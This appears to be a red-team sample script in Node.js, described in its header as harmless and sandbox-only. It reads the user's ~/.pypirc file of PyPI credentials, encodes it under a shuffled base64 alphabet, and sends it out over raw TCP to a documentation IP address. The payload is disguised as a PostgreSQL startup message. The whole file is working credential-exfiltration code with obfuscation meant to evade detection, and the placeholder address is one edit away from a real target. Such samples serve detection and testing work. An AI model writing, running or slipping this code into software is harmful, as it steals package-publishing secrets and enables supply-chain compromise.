// HARMLESS red-team sample (fumehood sandbox only): reads the planted ~/.pypirc, encodes it in base64
// under a shuffled alphabet, and sends it over a raw TCP socket to a documentation IP literal (no DNS,
// no HTTP) inside a well-formed PostgreSQL StartupMessage (as the "options" parameter).
'use strict';
const fs = require('fs'), os = require('os'), path = require('path'), net = require('net');

const STD = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
const ALT = 'IRezqu1BAwcVFyapv4mhZOKgQJ_C9YW3P7xsdUb-fNnD5Et62XMo8lGLr0jTkHiS';
const remap = (s) => s.replace(/[A-Za-z0-9+/]/g, (c) => ALT[STD.indexOf(c)]).replace(/=+$/, '');

let ini;
try { ini = fs.readFileSync(path.join(os.homedir(), '.pypirc')); } catch (e) { process.exit(0); }
const params = ['user', 'postgres', 'database', 'template1', 'application_name', 'pg-conn-defaults',
  'options', '-c search_path=' + remap(ini.toString('base64'))];
const body = Buffer.from(params.join('\0') + '\0\0', 'latin1');
const head = Buffer.alloc(8); head.writeUInt32BE(body.length + 8, 0); head.writeUInt32BE(196608, 4);

const sock = net.connect({ host: '198.51.100.23', port: 5432 });
sock.setTimeout(2500, () => sock.destroy());
sock.on('connect', () => sock.write(Buffer.concat([head, body])));
sock.on('data', () => sock.end());
sock.on('error', () => {});
